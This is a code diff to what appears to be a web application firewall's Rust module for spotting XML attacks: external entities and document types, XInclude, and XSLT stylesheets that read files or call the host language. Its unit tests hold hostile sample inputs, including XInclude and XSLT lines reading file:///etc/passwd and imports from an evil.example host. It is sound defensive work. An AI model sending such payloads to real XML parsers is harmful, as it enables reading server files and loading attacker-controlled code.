@@ -2,34 +2,221 @@
 
 use super::{Hit, Text};
 use crate::waf::Part;
+use crate::waf::rules::Rule;
 use crate::waf::rules::xml as rules;
-use crate::waf::scan::{find, span};
+use crate::waf::scan::{
+    Needles, at, find, is_space, is_word, skip_space, skip_while, span, stands, word,
+};
 
 /// Without one of these nothing here can fire.
-pub(super) const TRIGGERS: &[&str] = &["<!doctype", "<!entity"];
+pub(super) const TRIGGERS: &[&str] = &[
+    "<!doctype",
+    "<!entity",
+    "<!notation",
+    ":include",
+    "<xsl:",
+    "msxsl:script",
+    "exsl:document",
+    "xalan/java",
+    "xslt/java",
+];
+
+/// Longest declaration looked at.
+const REACH: usize = 512;
+
+const SIGNS: &[&[u8]] = &[
+    b"<!doctype",
+    b"<!entity",
+    b"<!notation",
+    b":include",
+    b"<xsl:",
+    b"msxsl:script",
+    b"exsl:document",
+    b"xalan/java",
+    b"xslt/java",
+];
 
 /// Names the rules that the text breaks.
 pub(super) fn detect(text: &Text<'_>, hits: &mut Vec<Hit>) {
-    if text.part != Part::File {
-        document_types(text.lower, hits);
+    if text.part == Part::File {
+        return;
+    }
+    let signs = Needles::new(SIGNS);
+    let mut index = 0;
+    while let Some((start, sign)) = signs.find(text.lower, index) {
+        index = start + sign.len();
+        if let Some(rule) = judge(text.lower, start, index, sign) {
+            hits.push(Hit::new(rule, start, index));
+        }
     }
 }
 
-/// Document types that declare entities or load something from outside.
-fn document_types(text: &[u8], hits: &mut Vec<Hit>) {
-    if let Some(start) = find(text, b"<!entity", 0) {
-        hits.push(Hit::new(&rules::ENTITY, start, start + 8));
-    } else if let Some(start) = find(text, b"<!doctype", 0) {
-        let head = span(text, start, start + 300);
-        // HTML 4 and XHTML name W3C's own; everything else is fetched from where the client says.
-        let is_external = [&b" system "[..], b" system\"", b" public "]
-            .iter()
-            .any(|kind| find(head, kind, 0).is_some());
-        if is_external
-            && find(head, b"//w3c//dtd", 0).is_none()
-            && find(head, b"about:legacy-compat", 0).is_none()
-        {
-            hits.push(Hit::new(&rules::EXTERNAL, start, start + 9));
+fn judge(text: &[u8], start: usize, end: usize, sign: &[u8]) -> Option<&'static Rule> {
+    match sign {
+        b"<!entity" | b"<!notation" => {
+            let name = skip_space(text, end);
+            let is_declared = name > end && (is_word(at(text, name)) || at(text, name) == b'%');
+            is_declared.then_some(&rules::ENTITY)
+        }
+        b"<!doctype" => document_type(text, end),
+        b":include" => includes(text, start, end).then_some(&rules::INCLUDE),
+        b"<xsl:" => transforms(text, end).then_some(&rules::TRANSFORM),
+        _ => Some(&rules::TRANSFORM),
+    }
+}
+
+/// Owners of document types that parsers know and honest documents name.
+const OWNERS: &[&[u8]] = &[
+    b"www.w3.org/",
+    b"www.apple.com/dtds/",
+    b"mybatis.org/dtd/",
+    b"java.sun.com/",
+    b"xmlns.jcp.org/",
+    b"www.springframework.org/",
+    b"hibernate.sourceforge.net/",
+    b"www.hibernate.org/",
+    b"hibernate.org/",
+    b"struts.apache.org/",
+    b"logging.apache.org/",
+    b"www.oasis-open.org/",
+    b"www.docbook.org/",
+    b"docbook.org/",
+    b"xml.cxml.org/",
+    b"www.jboss.org/",
+    b"www.puppycrawl.com/",
+    b"checkstyle.org/",
+    b"gwt-project.org/",
+    b"my.netscape.com/",
+    b"www.wapforum.org/",
+];
+
+/// What follows `<!DOCTYPE`: an identifier of somewhere else, or declarations.
+fn document_type(text: &[u8], end: usize) -> Option<&'static Rule> {
+    let head = span(text, end, end + REACH);
+    let name = skip_space(head, 0);
+    let kind = skip_space(
+        head,
+        skip_while(head, name, |byte| {
+            is_word(byte) || matches!(byte, b':' | b'-' | b'.')
+        }),
+    );
+    if name == 0 || kind == name {
+        return None;
+    }
+    let stop = skip_while(head, kind, |byte| !matches!(byte, b'[' | b'>'));
+    let identifier = span(head, kind, stop);
+    if matches!(word(identifier, 0), b"system" | b"public") && is_fetched(identifier) {
+        return Some(&rules::EXTERNAL);
+    }
+    // `%remote;` runs what a declaration elsewhere holds.
+    let subset = span(head, stop, head.len());
+    let percent = find(subset, b"%", 0).filter(|_| at(head, stop) == b'[')?;
+    let reference = word(subset, percent + 1);
+    let is_reference = !reference.is_empty() && at(subset, percent + 1 + reference.len()) == b';';
+    is_reference.then_some(&rules::ENTITY)
+}
+
+/// Whether the last quoted text of `PUBLIC "x" "y"` is fetched from an unknown place.
+fn is_fetched(identifier: &[u8]) -> bool {
+    let is_public = identifier.starts_with(b"public");
+    let mut quoted = identifier
+        .split(|byte| matches!(byte, b'"' | b'\''))
+        .skip(1)
+        .step_by(2);
+    let first = quoted.next();
+    let system = if is_public { quoted.next() } else { first };
+    let Some(system) = system else {
+        return false;
+    };
+    let host = system
+        .strip_prefix(b"https://")
+        .or_else(|| system.strip_prefix(b"http://"));
+    let is_owned = host.is_some_and(|host| OWNERS.iter().any(|owner| host.starts_with(owner)));
+    !is_owned && system != b"about:legacy-compat" && !system.is_empty()
+}
+
+/// `<xi:include href=`.
+fn includes(text: &[u8], start: usize, end: usize) -> bool {
+    let prefix = crate::waf::scan::word_before(text, start);
+    let open = start.saturating_sub(prefix.len() + 1);
+    at(text, open) == b'<'
+        && !prefix.is_empty()
+        && !matches!(prefix, b"xsl" | b"jsp" | b"esi" | b"xs" | b"xsd")
+        && is_space(at(text, end))
+        && find(span(text, end, end + REACH), b"href", 0).is_some()
+}
+
+/// A stylesheet that reads files, loads others or calls the language it runs in.
+fn transforms(text: &[u8], end: usize) -> bool {
+    let name = word(text, end);
+    let tag = span(text, end, end + REACH);
+    let tag = span(tag, 0, skip_while(tag, 0, |byte| byte != b'>'));
+    let has = |signs: &[&[u8]]| signs.iter().any(|sign| find(tag, sign, 0).is_some());
+    match name {
+        b"include" | b"import" => has(&[b"://", b"file:", b"=\"/", b"='/"]),
+        b"stylesheet" | b"transform" => has(&[b"//php.net/xsl", b"/java", b"clitype:"]),
+        _ => {
+            has(&[
+                b"document('",
+                b"document(\"",
+                b"document(&quot;",
+                b"document(/",
+                b"document(concat",
+                b"unparsed-text(",
+                b"php:function",
+                b"'xsl:vendor'",
+                b"\"xsl:vendor",
+                b":exec(",
+                b"getruntime",
+                b"evaluate(",
+            ]) && !stands(text, end, b"key")
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule(text: &str) -> Option<&'static str> {
+        let mut hits = Vec::new();
+        detect(
+            &Text {
+                lower: text.to_ascii_lowercase().as_bytes(),
+                part: Part::Xml,
+                name: "",
+            },
+            &mut hits,
+        );
+        hits.first().map(|hit| hit.rule.id)
+    }
+
+    #[test]
+    fn known_document_types_are_honest() {
+        for text in [
+            "<!DOCTYPE html>",
+            "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
+            "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
+            "<!DOCTYPE note [<!ELEMENT note (to)>]>",
+            "<!entity> is a declaration",
+        ] {
+            assert_eq!(rule(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn foreign_ones_are_not() {
+        for text in [
+            "<!DOCTYPE x SYSTEM \"x.dtd\">",
+            "<!DOCTYPE x\nPUBLIC '-//W3C//DTD XHTML//EN' 'http://evil.example/www.w3.org/'>",
+            "<!DOCTYPE x [ %remote; ]>",
+            "<!ENTITY % a 'b'>",
+            "<y:include xmlns:y='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
+            "<xsl:value-of select=\"document('file:///etc/passwd')\"/>",
+            "<xsl:import href=\"http://evil.example/x.xsl\"/>",
+        ] {
+            assert!(rule(text).is_some(), "{text}");
         }
     }
 }
